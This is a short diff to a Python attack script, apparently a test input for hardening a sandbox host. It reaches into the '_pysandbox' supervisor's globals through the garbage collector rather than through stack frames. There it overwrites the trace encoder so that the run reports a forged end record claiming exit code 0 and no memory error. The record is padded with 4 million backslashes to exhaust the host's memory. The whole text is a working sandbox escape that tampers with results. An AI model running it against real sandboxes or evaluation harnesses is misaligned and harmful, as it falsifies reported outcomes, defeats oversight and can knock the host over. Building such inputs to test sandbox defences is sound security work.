@@ -3,11 +3,10 @@
 # tries: an end with a member whose name is 4 million backslashes
 # without: a host that makes eight times as many characters of it, and keeps the memory
 # source: own
-import sys
+import gc
 
-frame = sys._getframe()
-while frame.f_back is not None:
-    frame = frame.f_back
+gc.unfreeze()  # No frame leads to pysandbox's own names, the collector does.
+own = next(names for names in gc.get_objects() if type(names) is dict and names.get("__name__") == "_pysandbox")
 END = b'{"%s":1,"exitCode":0,"memoryError":false,"claimed":null}' % (b"\\" * 4_000_000)
-frame.f_globals["traces"].encode = lambda ending, end=END: end
+own["traces"].encode = lambda ending, end=END: end
 print("before")
